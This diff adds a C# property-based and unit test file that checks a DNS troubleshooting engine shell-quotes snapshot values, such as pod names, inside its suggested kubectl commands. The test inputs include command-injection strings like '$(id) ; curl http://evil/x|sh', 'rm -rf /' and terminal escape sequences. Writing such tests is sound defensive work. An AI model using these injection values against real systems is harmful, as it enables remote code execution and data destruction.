@@ -1,0 +1,124 @@
+using System.Reflection;
+using DnsExpert.Core.Facts;
+using DnsExpert.Core.Text;
+using DnsExpert.Engine.Compilation;
+using DnsExpert.Engine.RuleFiles;
+using DnsExpert.Engine.Sessions;
+using FsCheck;
+using FsCheck.Fluent;
+using FsCheck.Xunit;
+
+namespace DnsExpert.Engine.Tests;
+
+/// <summary>Values from a snapshot put into a copyable command stay one shell word each: never code, never a second line.</summary>
+public sealed class CommandQuotingTests
+{
+    private static readonly RuleBase Rules = RuleBaseLoader.Load(RepoPaths.Rules);
+
+    /// <summary>The characters that mean something to a shell, a terminal or a Markdown reader, and some ordinary ones.</summary>
+    private static Arbitrary<string> HostileStrings() =>
+        Gen.OneOf(
+                Gen.Elements("coredns-x $(id) ; curl http://evil/x|sh #\r\n\u001b[31m", "a'b", "'", "", "=ls", "-rf", "~root", "*", "a b",
+                    "x\ny", "x\rrm -rf /", "`id`", "${IFS}", "\u202Egnp.exe", "\u007f\u0085\u009b31m", "kube-dns.kube-system.svc.cluster.local"),
+                Gen.Elements('\'', '"', '\\', '$', '`', ';', '|', '&', '<', '>', '(', ')', '*', '?', '[', ']', '{', '}', '~', '#', '=', '%',
+                        '\n', '\r', '\t', '\u0000', '\u001b', '\u007f', '\u202e', ' ', '!', 'a', 'Z', '0', '-', '.', 'é', '漢')
+                    .ArrayOf()
+                    .Select(chars => new string(chars)))
+            .ToArbitrary();
+
+    [Property(MaxTest = 200)]
+    public Property Every_command_of_the_rule_base_keeps_its_words_whatever_the_facts_hold() =>
+        Prop.ForAll(HostileStrings(), value =>
+        {
+            foreach (var (rule, scope, template) in CommandTemplates())
+            {
+                var facts = scope.Select(t => FactWithEveryString(t, value)).ToArray();
+                var pieces = template.Pieces(facts).ToList();
+                var marked = string.Concat(pieces.Select((p, i) => p.Literal ?? $"HOLE{i}X"));
+                var intended = ShellSyntax.Tokenize(marked)
+                    .Select(token => pieces.Select((p, i) => (p, i)).Where(x => x.p.Literal is null)
+                        .Aggregate(token, (t, x) => t.Replace($"HOLE{x.i}X", x.p.Value, StringComparison.Ordinal)))
+                    .ToList();
+                var rendered = template.Render(facts);
+                var parsed = ShellSyntax.Tokenize(rendered);
+                if (!parsed.SequenceEqual(intended, StringComparer.Ordinal))
+                {
+                    throw new InvalidOperationException($"{rule}: {rendered}\nparsed:   [{string.Join("] [", parsed)}]\nintended: [{string.Join("] [", intended)}]");
+                }
+            }
+
+            return true;
+        });
+
+    [Fact]
+    public void A_poisoned_pod_name_is_one_quoted_word_in_the_command_and_plain_text_elsewhere()
+    {
+        var pod = new CoreDnsPod
+        {
+            Source = "Pod kube-system/x",
+            Namespace = "kube-system",
+            Name = "coredns-x $(id) ; curl http://evil/x|sh #\r\n\u001b[31m'",
+            Phase = "Pending",
+        };
+
+        var finding = Assert.Single(RuleSessionRunner.Run(Rules, [pod]).Findings, f => f.RuleId == "coredns-pod-not-running");
+
+        const string Quoted = @"'coredns-x $(id) ; curl http://evil/x|sh #  [31m'\'''";
+        Assert.Equal($"kubectl -n kube-system describe pod {Quoted} && kubectl -n kube-system logs {Quoted} --previous --tail=500 --timestamps",
+            finding.Remediation[0].Command);
+        Assert.Contains("CoreDNS pod coredns-x $(id) ; curl http://evil/x|sh #  [31m' on node", finding.Cause, StringComparison.Ordinal);
+        Assert.DoesNotContain(finding.Evidence.SelectMany(e => new[] { e.Source, e.Detail }).Append(finding.Cause), t => t.Any(char.IsControl));
+    }
+
+    [Fact]
+    public void Plain_dns_names_in_a_command_need_no_quotes()
+    {
+        var pod = new CoreDnsPod { Source = "Pod kube-system/coredns-7d4b9c-x2k4q", Namespace = "kube-system", Name = "coredns-7d4b9c-x2k4q", Phase = "Pending" };
+
+        var finding = Assert.Single(RuleSessionRunner.Run(Rules, [pod]).Findings, f => f.RuleId == "coredns-pod-not-running");
+
+        Assert.Equal("kubectl -n kube-system describe pod coredns-7d4b9c-x2k4q && kubectl -n kube-system logs coredns-7d4b9c-x2k4q --previous --tail=500 --timestamps",
+            finding.Remediation[0].Command);
+    }
+
+    [Theory]
+    [InlineData("web-0", "web-0")]
+    [InlineData("10.0.0.10:53", "10.0.0.10:53")]
+    [InlineData("", "''")]
+    [InlineData("a b", "'a b'")]
+    [InlineData("it's", @"'it'\''s'")]
+    [InlineData("=ls", "'=ls'")]
+    [InlineData("$(id)\n", "'$(id) '")]
+    public void Shell_words_are_quoted_only_when_needed(string value, string word) => Assert.Equal(word, ShellWords.Quote(value));
+
+    /// <summary>Every command template of the repository's rules, with the fact types of the patterns it may name.</summary>
+    private static IEnumerable<(string Rule, Type[] Scope, CompiledTemplate Template)> CommandTemplates() =>
+        from rule in Rules.Rules
+        from @case in rule.Cases
+        let scope = rule.Document.Cases[@case.Index].When.Where(p => p.Mode == PatternMode.Match)
+            .Select(p => FactTypes.TryGet(p.FactType, out var t) ? t : throw new InvalidOperationException(p.FactType)).ToArray()
+        from remediation in @case.Remediation
+        where remediation.Command is not null
+        select (rule.Id, scope, remediation.Command!);
+
+    /// <summary>A fact of <paramref name="type"/> whose every string (and string list) property holds <paramref name="value"/>.</summary>
+    private static object FactWithEveryString(Type type, string value)
+    {
+        var fact = type.GetConstructor(Type.EmptyTypes) is null
+            ? System.Runtime.CompilerServices.RuntimeHelpers.GetUninitializedObject(type)
+            : Activator.CreateInstance(type)!;
+        foreach (var property in type.GetProperties(BindingFlags.Public | BindingFlags.Instance).Where(p => p.CanWrite))
+        {
+            if (property.PropertyType == typeof(string))
+            {
+                property.SetValue(fact, value);
+            }
+            else if (property.PropertyType.IsAssignableFrom(typeof(string[])))
+            {
+                property.SetValue(fact, new[] { value, value });
+            }
+        }
+
+        return fact;
+    }
+}
